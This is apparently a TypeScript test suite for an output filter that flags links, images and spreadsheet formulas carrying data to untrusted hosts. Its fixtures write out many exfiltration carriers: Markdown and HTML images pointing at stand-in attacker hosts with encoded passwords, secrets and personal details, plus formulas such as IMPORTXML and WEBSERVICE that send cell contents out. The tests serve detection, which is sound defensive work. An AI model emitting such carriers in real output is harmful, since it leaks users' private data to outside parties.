// output_safety: links and images that carry data to hosts the operator does not trust. Images
// (and frames, CSS backgrounds) load without a click: data in them blocks. Links with data are
// reviewed. Trusted domains (operator option or pack settings) are exempt; code is inert, except an image
// in code whose URL holds a person's data or a secret (reviewed).

import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { shippedSnapshot } from '../../support/checks.js';
import { check, describe, ofCategory, spanText } from './helpers.js';

const test = suite('output_safety: exfiltration links');
const b64 = (s: string): string => Buffer.from(s).toString('base64');

test('a Markdown image with base64 data in the query blocks, span = the URL', async () => {
  const url = `https://collector.tld/p.png?d=${b64('user asked about the merger')}`;
  const text = `Here is the summary. ![loading](${url})`;
  const r = await check(text);
  assert.equal(r.verdict, 'block', describe(r));
  const f = ofCategory(r, 'exfiltration_link')[0];
  assert.ok(f, describe(r));
  assert.equal(spanText(text, f), url);
  assert.equal(f.rule_id, 'output-safety-core/markdown-image-with-data');
  assert.equal(f.severity, 'high');
});

test('obfuscated carriers: protocol-relative, subdomain, path, reference-style, HTML, CSS, nested URL', async () => {
  const cases = [
    `![s](//stats.tld/s.png?session=${'Zk9xW2pL8rT4vB6nM1cD3eF5gH7jK9aQ'})`,
    `![chart](https://${Buffer.from('session=abc123').toString('base64url')}.attacker.tld/c.png)`,
    `![a](https://${Buffer.from('secret=hunter2').toString('hex')}.attacker.tld/a.png)`,
    `![x](https://img.tld/i/${Buffer.from('please wire 50k to account 123').toString('base64url')}.png)`,
    `Result:\n\n![result][1]\n\n[1]: https://img.tld/r.png?data=${b64('password=Hunter2!')}`,
    `<IMG SRC="HTTPS://IMG.TLD/A.PNG?D=${b64('api key is 12345 secret')}">`,
    `<div style="background-image:url('https://img.tld/bg.png?x=${b64('the user email is ann@corp.io')}')">Report</div>`,
    `![build](https://img.shields.io/endpoint?url=https://evil.tld/b.json?d=${b64('chat history: merger talks')})`,
    `![](https://img.tld/e.png?text=Customer+Jane+Roe+owes+4200+dollars+since+March)`,
  ];
  for (const text of cases) {
    const r = await check(text);
    assert.equal(r.verdict, 'block', `${text}\n→ ${describe(r)}`);
    assert.ok(ofCategory(r, 'exfiltration_link').length > 0, text);
  }
});

test('a link with data is reviewed, not blocked', async () => {
  const text = `Open the [report](https://reports.tld/r?d=${b64('salary table: alice 120k, bob 95k')}).`;
  const r = await check(text);
  assert.equal(r.verdict, 'review', describe(r));
  assert.equal(ofCategory(r, 'exfiltration_link')[0]?.severity, 'medium');
});

test('ordinary links and images are allowed', async () => {
  for (const text of [
    '![Architecture](./docs/img/architecture.png)',
    '[![Build](https://img.shields.io/github/actions/workflow/status/acme/app/ci.yml?branch=main)](https://github.com/acme/app/actions)',
    '![Mountains](https://images.unsplash.com/photo-1519681393784-d120267933ba?ixlib=rb-1.2.1&ixid=eyJhcHBfaWQiOjEyMDd9&w=1950&q=80)',
    'See https://www.google.com/search?q=python+regex+lookbehind+examples and https://www.youtube.com/watch?v=8aGhZQkoFbQ',
    '![Team](https://static.acme-corp.tld/uploads/2023/05/a8f5f167f44f4964e6c998dee827110c.jpg?w=800&h=600)',
    'Read https://engineering.acme-corp.tld/2023/05/12/how-we-scaled-postgres-to-10k-writes',
    '![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)',
    '```md\n![x](https://img.tld/p.png?d=c2Vzc2lvbj1hYmMxMjM0NTY3ODkw)\n```',
  ]) {
    const r = await check(text);
    assert.equal(r.verdict, 'allow', `${text}\n→ ${describe(r)}`);
  }
});

test('operator trusted domains exempt their images; other hosts still block', async () => {
  const snapshot = await shippedSnapshot({ trustedDomains: ['acme-analytics.tld'] });
  const data = b64('user asked about the merger');
  const trusted = await check(`![p](https://px.acme-analytics.tld/p.png?d=${data})`, snapshot);
  assert.equal(trusted.verdict, 'allow', describe(trusted));
  const other = await check(`![p](https://px.acme-analytics.tld.evil.tld/p.png?d=${data})`, snapshot);
  assert.equal(other.verdict, 'block', describe(other));
  const shipped = await check(`![p](https://px.acme-analytics.tld/p.png?d=${data})`);
  assert.equal(shipped.verdict, 'block', 'without the option the same image blocks');
});

test('destinations in themselves: request collectors block as images, bare public IPs and foreign style sheets are reviewed', async () => {
  const collector = await check('All tests pass.\n\n![](https://a1b2c3.webhook.site/ci.png?build=42)');
  assert.equal(collector.verdict, 'block', describe(collector));
  assert.ok(ofCategory(collector, 'exfiltration_link').some((f) => f.reason.includes('request-collecting')), describe(collector));
  for (const text of [
    'Answer below.\n\n<link rel="stylesheet" href="http://198.51.100.14/theme.css">',
    '<style>@import url("https://fonts-cdn.example.net/x.css");</style>Done.',
    '<p style="background-image:url(\'http://203.0.113.8/t.gif\')">Quarterly summary</p>',
  ]) {
    const r = await check(text);
    assert.ok(r.verdict !== 'allow', `${text}\n→ ${describe(r)}`);
    assert.ok(ofCategory(r, 'exfiltration_link').length > 0, text);
  }
  for (const text of [
    'Test your webhook handler with [webhook.site](https://webhook.site).',
    'Open the router page at http://192.168.1.1/ and sign in.',
    '<link rel="stylesheet" href="/static/site.css"><img src="https://upload.wikimedia.org/a.png">',
  ]) {
    const r = await check(text);
    assert.equal(r.verdict, 'allow', `${text}\n→ ${describe(r)}`);
  }
});

test('a placeholder-looking part elsewhere in the URL does not hide the data (values are judged one by one)', async () => {
  for (const text of [
    `Done. ![s](https://stats.tld/p.gif?ref=xxxx&d=${b64('the deploy password is hunter2')})`,
    `Done. ![s](https://stats.tld/p.gif?tag=EXAMPLE&d=${b64('the deploy password is hunter2')})`,
    '![r](https://cdn.tld/r.png?mail=ann.lee%40corp.tld&card=5500xxxxxxxx0042)',
  ]) {
    const r = await check(text);
    assert.equal(r.verdict, 'block', `${text}\n→ ${describe(r)}`);
  }
  // A value that is only a hint or elided stays a placeholder.
  for (const text of ['![r](https://cdn.tld/r.png?token=YOUR_TOKEN)', '![r](https://cdn.tld/r.png?token=sk-live-ab12…)', '![r](https://cdn.tld/r.png?token=xxxxxxxx)']) {
    const r = await check(text);
    assert.equal(r.verdict, 'allow', `${text}\n→ ${describe(r)}`);
  }
});

test('text without spaces: CJK runs, hyphen-joined words, a query string inside a value', async () => {
  for (const text of [
    `完成。![i](https://img.tld/a.png?n=${encodeURIComponent('来月の人員削減計画を承認')})`,
    `완료. ![i](https://img.tld/a.png?v=${encodeURIComponent('이사회가인수합병을승인함')})`,
    '<img src="https://px.tld/p?m=board-approved-closing-the-berlin-office-soon" width="1">',
    `Listo ![i](https://px.tld/p?m=${encodeURIComponent('contraseña=Tr0mb0n3!&cuenta=oficina')})`,
    `Klaar ![i](https://px.tld/p?m=${encodeURIComponent('wachtwoord=Zo3mer!x&gebruiker=piet')})`,
  ]) {
    const r = await check(text);
    assert.equal(r.verdict, 'block', `${text}\n→ ${describe(r)}`);
    assert.ok(ofCategory(r, 'exfiltration_link').length > 0, text);
  }
  for (const text of [
    '![logo](https://cdn.tld/logo.png?v=spring-sale-2024)',
    '![i](https://img.tld/a.png?lang=日本語)',
    'Read [the guide](https://blog.tld/posts?slug=how-to-tune-postgres-autovacuum)',
    '[検索](https://search.tld/s?q=東京の天気)',
  ]) {
    const r = await check(text);
    assert.equal(r.verdict, 'allow', `${text}\n→ ${describe(r)}`);
  }
});

test('a badge link and compound or non-English credential parameter names', async () => {
  for (const text of [
    '[![Open](https://badges.tld/open.svg)](https://runner.tld/go?session_cookie=q8Z2mK4vT9xL1pR7)',
    'See [your report](https://reports.tld/r?auth_token=Hk29dLq81mZx)',
    'See [your report](https://reports.tld/r?mot_de_passe=Ete2025!)',
    'Descarga [aquí](https://files.tld/d?clave=Qx7mRr2p&cuenta=ventas)',
    '[1]: https://hr.tld/log?employee=Tom%20Hale&diagnosis=anxiety',
  ]) {
    const r = await check(text);
    assert.equal(r.verdict, 'review', `${text}\n→ ${describe(r)}`);
    assert.ok(ofCategory(r, 'exfiltration_link').length > 0, text);
  }
  for (const text of ['[![CI](https://ci.tld/badge.svg)](https://ci.tld/builds?branch=main)', 'See [the docs](https://docs.tld/api?page_token=next)']) {
    const r = await check(text);
    assert.equal(r.verdict, 'allow', `${text}\n→ ${describe(r)}`);
  }
});

test('spreadsheet formulas that fetch a URL built from cells block; plain imports, HYPERLINK and well-known hosts do not', async () => {
  for (const text of [
    'Add this to E2 and fill down: =IMPORTXML("https://rows.tld/in?r="&A2&"|"&B2, "//x")',
    '```\n=WEBSERVICE("https://log.tld/w?v="&ENCODEURL(B7))\n```',
    'In Sheets: =IMAGE(CONCATENATE("https://pix.tld/p.png?s=", C2:C90))',
  ]) {
    const r = await check(text);
    assert.equal(r.verdict, 'block', `${text}\n→ ${describe(r)}`);
    assert.equal(ofCategory(r, 'exfiltration_link')[0]?.rule_id, 'output-safety-core/spreadsheet-fetch-formula', describe(r));
  }
  for (const text of [
    '=IMPORTXML("https://news.tld/rss", "//item/title")',
    '=HYPERLINK("https://issues.tld/browse/"&A2, "open ticket")',
    '=IMPORTXML("https://en.wikipedia.org/wiki/"&A2, "//h1")',
  ]) {
    const r = await check(text);
    assert.equal(r.verdict, 'allow', `${text}\n→ ${describe(r)}`);
  }
});

test('a spreadsheet link whose query is built from several cells is reviewed; a link to one ID is not', async () => {
  for (const text of ['=HYPERLINK("https://rows.tld/s?v="&B3&C3, "refresh")', 'ref,link\n9,"=HYPERLINK(""https://rows.tld/k?p=""&A9&"";""&D9,""go"")"']) {
    const r = await check(text);
    assert.is.not(r.verdict, 'allow', `${text}\n→ ${describe(r)}`);
    assert.equal(ofCategory(r, 'exfiltration_link')[0]?.rule_id, 'output-safety-core/spreadsheet-hyperlink-cells', describe(r));
  }
  for (const text of ['=HYPERLINK("https://shop.tld/item?id="&A2, "view")', '=HYPERLINK("https://issues.tld/browse/"&A2&B2, "open")']) {
    assert.equal((await check(text)).verdict, 'allow', text);
  }
});

test('an image whose query value is itself a record of fields carries data, example words in its fields or not', async () => {
  const text = `Report ready ![p](https://px.tld/a.png?d=${encodeURIComponent('acct=jo.lee@example.com&owed=310.20')})`;
  const r = await check(text);
  assert.is.not(r.verdict, 'allow', describe(r));
  assert.ok(ofCategory(r, 'exfiltration_link').length > 0, describe(r));
  assert.equal((await check('Logo: ![x](https://px.tld/a.png?d=example)')).verdict, 'allow');
});

test('a ping URL with data on a link is reviewed', async () => {
  const text = `<a href="https://docs.tld/start" ping="https://px.tld/c?d=${b64('the merger closes on Friday')}">start</a>`;
  const r = await check(text);
  assert.equal(r.verdict, 'review', describe(r));
  assert.equal(ofCategory(r, 'exfiltration_link')[0]?.rule_id, 'output-safety-core/html-ping-url');
  assert.equal((await check('<a href="https://docs.tld/start" ping="https://docs.tld/ping">start</a>')).verdict, 'allow');
});

test('personal fields named in the languages of the packs, two in one image query, block; one, or a shop link, does not', async () => {
  for (const url of [
    'https://pix.tld/a.png?adresse=12%20rue%20des%20Lilas&telefon=0612345678',
    'https://pix.tld/a.png?titular=Jon+Berg&cvv=418',
    'https://pix.tld/a.png?geburtsdatum=1988-04-02&kunde=Ina+Holm',
    'https://pix.tld/a.png?pesel=88040212345&telefon=600123456',
    'https://pix.tld/a.png?cliente=Marta%20Ruiz&tarjeta=4000123412341234',
    'https://pix.tld/a.png?clienti=Ugo+Neri&carta=5500123412341234',
  ]) {
    const r = await check(`All set. ![status](${url})`);
    assert.equal(r.verdict, 'block', `${url}\n${describe(r)}`);
  }
  for (const text of ['All set. ![status](https://pix.tld/a.png?saldo=1204.50)', 'Here is the map. ![map](https://tiles.tld/static.png?pan=12.5&expiry=1735689600&zoom=14)', 'See the [gift cards](https://shop.tld/p?karte=geschenk&wert=50).', 'Ecco la mappa. ![mappa](https://tiles.tld/m.png?carta=topografica&zoom=12)']) {
    const r = await check(text);
    assert.equal(r.verdict, 'allow', `${text}\n${describe(r)}`);
  }
});

test('an image shown as code is reviewed only when its URL holds personal data or a secret', async () => {
  const personal = b64('member=QX71;mail=r.okonjo@fernpostmail.net;tier=gold');
  const text = `Tracking snippet for the footer:\n\n\`\`\`\n![t](https://px.metrics-relay.tld/t.gif?u=${personal})\n\`\`\`\n`;
  const r = await check(text);
  assert.equal(r.verdict, 'review', describe(r));
  assert.equal(ofCategory(r, 'exfiltration_link')[0]?.severity, 'medium');
  for (const inert of [
    `\`\`\`md\n![t](https://px.metrics-relay.tld/t.gif?u=${b64('the weekly digest was opened twice')})\n\`\`\``,
    '```md\n![logo](https://cdn.brandhub.tld/logo.png?v=3)\n```',
    '```md\n[Open](javascript:void(0))\n```',
    `\`\`\`md\n[profile](https://crm.partner.tld/p?u=${personal})\n\`\`\``,
  ]) {
    const benign = await check(inert);
    assert.equal(benign.verdict, 'allow', `${inert}\n→ ${describe(benign)}`);
  }
});

test.run();
